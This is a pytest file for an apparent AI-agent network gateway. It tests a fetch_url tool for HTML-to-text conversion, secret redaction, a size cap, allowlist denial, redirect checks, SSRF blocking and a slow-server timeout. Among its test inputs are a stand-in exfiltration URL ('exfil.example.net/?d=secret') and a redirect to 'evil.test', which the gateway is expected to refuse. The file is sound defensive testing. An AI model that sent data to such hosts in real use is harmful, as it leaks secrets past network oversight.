"""fetch_url through the gateway, against loopback servers."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from netgw_servers import LoopbackServer, make_settings

from bastion.net import build_fetch_client, build_http_client
from bastion.policy import Policy
from bastion.tools.base import ToolContext
from bastion.tools.fetch import MAX_FETCH_BYTES, FetchUrl, html_to_text

PAGE = b"""<!doctype html><html><head><title>Demo &amp; Co</title>
<style>body{color:red}</style><script>var secret = "do not show";</script></head>
<body><h1>Welcome</h1><p>First   paragraph with <a href="/next">a link</a>.</p>
<ul><li>one</li><li>two</li></ul><p>token: AKIAIOSFODNN7EXAMPLE</p></body></html>"""


class Upper:
    """Stands in for the privacy filter: visibly transforms what the model will see."""

    def redact(self, text: str) -> str:
        return text.replace("AKIAIOSFODNN7EXAMPLE", "[REDACTED:aws]")


def _ctx(tmp_path: Path, client: httpx.Client, **extras: Any) -> ToolContext:
    return ToolContext(workspace=tmp_path, policy=Policy(tmp_path),
                       extras={"http_client": client, **extras})


def _fetch_client(records: list[dict[str, Any]], **network: Any) -> httpx.Client:
    network.setdefault("allowedDomains", ["127.0.0.1"])
    return build_fetch_client(make_settings(**network), recorder=records.append)


def test_html_to_text_and_privacy_filter(serve: Callable[..., LoopbackServer], tmp_path: Path,
                                         records: list[dict[str, Any]]) -> None:
    server = serve({"/": (200, {"Content-Type": "text/html; charset=utf-8"}, PAGE)})
    tool = FetchUrl()
    result = tool.run(tool.parse({"url": f"http://127.0.0.1:{server.port}/"}),
                      _ctx(tmp_path, _fetch_client(records), privacy_filter=Upper()))
    assert not result.is_error, result.content
    text = result.content
    assert "Title: Demo & Co" in text and "# Welcome" in text
    assert "First paragraph with a link <http://127.0.0.1:" in text
    assert "- one\n" in text and "- two" in text
    assert "do not show" not in text and "color:red" not in text
    assert "[REDACTED:aws]" in text and "AKIA" not in text
    assert records[0]["purpose"] == "fetch_url" and records[0]["decision"] == "allow"


def test_without_privacy_filter_text_is_returned_as_is(
        serve: Callable[..., LoopbackServer], tmp_path: Path,
        records: list[dict[str, Any]]) -> None:
    server = serve({"/a.txt": (200, {"Content-Type": "text/plain"}, b"plain AKIA text")})
    tool = FetchUrl()
    result = tool.run(tool.parse({"url": f"http://127.0.0.1:{server.port}/a.txt"}),
                      _ctx(tmp_path, _fetch_client(records)))
    assert result.content.endswith("plain AKIA text")


def test_size_cap(serve: Callable[..., LoopbackServer], tmp_path: Path,
                  records: list[dict[str, Any]]) -> None:
    big = b"x" * (MAX_FETCH_BYTES + 100_000)
    server = serve({"/big": (200, {"Content-Type": "text/plain"}, big)})
    tool = FetchUrl()
    result = tool.run(tool.parse({"url": f"http://127.0.0.1:{server.port}/big"}),
                      _ctx(tmp_path, _fetch_client(records)))
    assert result.details["truncated"] is True
    assert result.content.count("x") == MAX_FETCH_BYTES
    assert "truncated" in result.content
    assert records[0]["bytes_in"] < len(big)  # stopped reading, did not download it all


def test_denied_url_is_an_error_result(tmp_path: Path, records: list[dict[str, Any]]) -> None:
    tool = FetchUrl()
    result = tool.run(tool.parse({"url": "https://exfil.example.net/?d=secret"}),
                      _ctx(tmp_path, _fetch_client(records)))
    assert result.is_error and result.details["denied"] is True
    assert result.details["rule"] == "not-allowlisted"
    assert "refused by the network policy" in result.content
    assert records[0]["decision"] == "deny" and records[0]["path"] == "/?d="


def test_redirect_hops_are_checked(serve: Callable[..., LoopbackServer], tmp_path: Path,
                                   records: list[dict[str, Any]]) -> None:
    ok = serve({"/": (200, {"Content-Type": "text/plain"}, b"landed")})
    hop = serve({"/a": (302, {"Location": "/b"}, b""),
                 "/b": (301, {"Location": f"http://127.0.0.1:{ok.port}/"}, b""),
                 "/bad": (302, {"Location": "https://evil.test/x"}, b""),
                 "/loop": (302, {"Location": "/loop"}, b"")})
    tool = FetchUrl()
    ctx = _ctx(tmp_path, _fetch_client(records, deniedDomains=["evil.test"]))
    good = tool.run(tool.parse({"url": f"http://127.0.0.1:{hop.port}/a"}), ctx)
    assert good.content.endswith("landed") and good.details["redirects"] == 2
    bad = tool.run(tool.parse({"url": f"http://127.0.0.1:{hop.port}/bad"}), ctx)
    assert bad.is_error and bad.details["rule"] == "denied-domain:evil.test"
    assert "redirect hop 1" in bad.content
    loop = tool.run(tool.parse({"url": f"http://127.0.0.1:{hop.port}/loop"}), ctx)
    assert loop.is_error and "more than 5 redirects" in loop.content
    assert [r["rule"] for r in records][3:5] == ["allowed-domain:127.0.0.1",
                                                "denied-domain:evil.test"]


def test_fetch_client_does_not_trust_provider_endpoints(
        serve: Callable[..., LoopbackServer], tmp_path: Path,
        records: list[dict[str, Any]]) -> None:
    server = serve({"/": (200, {"Content-Type": "text/plain"}, b"model server")})
    settings = make_settings({"providers": {"local": {
        "endpoint": f"http://localhost:{server.port}/v1"}}})
    tool = FetchUrl()
    # the provider's own client reaches it ...
    assert build_http_client(settings).get(f"http://localhost:{server.port}/").status_code == 200
    # ... the model's fetch_url does not (no SSRF into local services)
    result = tool.run(tool.parse({"url": f"http://localhost:{server.port}/"}),
                      _ctx(tmp_path, build_fetch_client(settings, recorder=records.append)))
    assert result.is_error and result.details["rule"] == "not-allowlisted"


def test_binary_content_and_missing_client(serve: Callable[..., LoopbackServer],
                                           tmp_path: Path,
                                           records: list[dict[str, Any]]) -> None:
    server = serve({"/img": (200, {"Content-Type": "image/png"}, b"\x89PNG\r\n")})
    tool = FetchUrl()
    result = tool.run(tool.parse({"url": f"http://127.0.0.1:{server.port}/img"}),
                      _ctx(tmp_path, _fetch_client(records)))
    assert result.is_error and "image/png" in result.content
    none = tool.run(tool.parse({"url": "http://127.0.0.1/"}),
                    ToolContext(workspace=tmp_path, policy=Policy(tmp_path)))
    assert none.is_error and "unavailable" in none.content
    assert FetchUrl.read_only is False


def test_html_to_text_unit() -> None:
    assert html_to_text("<p>a&nbsp;b</p><p>c</p>") == "a\xa0b\n\nc"


def test_a_server_that_trickles_bytes_cannot_hold_the_agent(
        tmp_path: Path, records: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch) -> None:
    """One byte every 0.1 s keeps each read within its timeout; the body's wall clock stops
    it (FETCH_DEADLINE_S, 1 s here) and says so."""
    import socket
    import threading
    import time as _time

    from bastion.tools import fetch as fetch_mod

    monkeypatch.setattr(fetch_mod, "FETCH_DEADLINE_S", 1.0)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    stop = threading.Event()

    def trickle() -> None:
        conn, _ = listener.accept()
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n")
        while not stop.is_set():
            try:
                conn.sendall(b"x")
            except OSError:
                break
            _time.sleep(0.1)
        conn.close()

    thread = threading.Thread(target=trickle, daemon=True)
    thread.start()
    try:
        tool = FetchUrl()
        start = _time.monotonic()
        result = tool.run(tool.parse({"url": f"http://127.0.0.1:{listener.getsockname()[1]}/"}),
                          _ctx(tmp_path, _fetch_client(records)))
        assert _time.monotonic() - start < 10
        assert "stopped after 1 s" in result.content and "xxxx" in result.content
        assert result.details["truncated"] is True
    finally:
        stop.set()
        listener.close()
